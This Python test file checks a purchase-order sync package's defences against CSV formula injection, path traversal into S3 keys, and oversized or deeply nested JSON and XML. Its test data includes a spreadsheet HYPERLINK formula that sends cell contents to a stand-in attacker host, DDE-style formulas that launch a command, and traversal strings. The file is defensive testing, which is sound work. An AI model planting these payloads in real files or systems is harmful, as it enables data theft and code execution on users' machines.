"""Issue 16 audit defects in the vendor files, at the formats/settings level: formula injection in
the CSVs vendors open, a PO number with ``/`` in an S3 key, hostile JSON numbers."""

from __future__ import annotations

import csv
import io

import pytest

from po_sync.exceptions import RecordValidationError
from po_sync.vendors.formats import DocumentFormatError, dump_document, load_document
from po_sync.vendors.settings import VendorSettings

FORMULAS = {
    "memo": '=HYPERLINK("http://evil.example/?"&A2,"Click for your invoice")',
    "vendor_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}
LINE_FORMULAS = {"sku": "+cmd|' /C calc'!A0", "description": "-2+3+cmd|' /C calc'!A0"}


def po_document() -> dict:
    return {
        "document_type": "purchase_order",
        "po_number": "PO000001",
        "vendor_id": "V0001",
        **FORMULAS,
        "total": "10",
        "lines": [{"line": "1", **LINE_FORMULAS, "quantity": "2", "rate": "-5", "amount": "10"}],
    }


def test_vendor_csv_cells_never_start_a_formula():
    rows = list(csv.reader(io.StringIO(dump_document(po_document(), "csv").decode(), newline="")))
    cells = dict(zip(rows[0], rows[1], strict=True))
    for field, value in {**FORMULAS, **LINE_FORMULAS}.items():
        assert cells[field] == "'" + value, field
    assert cells["rate"] == "-5"  # a plain number stays a number


def test_neutralised_cells_read_back_as_the_vendor_wrote_them():
    notice = {
        "document_type": "ship_notice",
        "document_id": "SN-1",
        "po_number": "PO000001",
        "carrier": "=cmd",
        "lines": [{"line": "1", "sku": "+SKU", "quantity_shipped": "1"}],
    }
    back = load_document(dump_document(notice, "csv"), "csv", source="inbound/x.csv")
    assert back["carrier"] == "=cmd" and back["lines"][0]["sku"] == "+SKU"


@pytest.mark.parametrize("number", ["PO/2026/7", "..", "PO\n7", "a\\b"])
def test_a_po_number_that_is_not_one_key_component_gets_no_s3_key(number):
    settings = VendorSettings(vendor_id="V0001", bucket="vendor-a", prefix="acme")
    assert settings.po_key("PO000001") == "acme/PurchaseOrder/PO000001.json"
    with pytest.raises(RecordValidationError) as caught:
        settings.po_key(number)
    assert caught.value.code == "UNSAFE_PATH" and "PO number" in caught.value.message


@pytest.mark.parametrize("prefix", ["../other-vendor", "a/../../b", "a\nb"])
def test_a_vendor_prefix_cannot_leave_the_bucket_root(prefix):
    with pytest.raises(ValueError, match="prefix"):
        VendorSettings(vendor_id="V0001", bucket="vendor-a", prefix=prefix)


HOSTILE_JSON = [
    (b'{"document_type": "ship_notice", "total": 1e999999999, "lines": []}', "out of range"),
    (b'{"document_type": "ship_notice", "total": ' + b"9" * 5000 + b', "lines": []}', "longer than"),
    (b'{"document_type": "ship_notice", "total": 1e-999999999, "lines": []}', "out of range"),
    (b'{"document_type": "ship_notice", "total": Infinity, "lines": []}', "not a number"),
    (b'{"document_type": "ship_notice", "total": -Infinity, "lines": []}', "not a number"),
    (b'{"document_type": "ship_notice", "total": NaN, "lines": []}', "not a number"),
    (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
]


@pytest.mark.parametrize(("data", "words"), HOSTILE_JSON)
def test_hostile_json_numbers_and_nesting_are_refused_naming_the_file(data, words):
    with pytest.raises(DocumentFormatError) as caught:
        load_document(data, "json", source="inbound/hostile.json")
    assert caught.value.code == "MALFORMED_JSON"
    assert "inbound/hostile.json" in caught.value.message and words in caught.value.message


DEEP_XML = b"<ShipNotice>" + b"<a>" * 50_000 + b"</a>" * 50_000 + b"<lines/></ShipNotice>"


def test_deeply_nested_xml_is_refused_naming_the_file():
    with pytest.raises(DocumentFormatError) as caught:
        load_document(DEEP_XML, "xml", source="inbound/deep.xml")
    assert "inbound/deep.xml" in caught.value.message
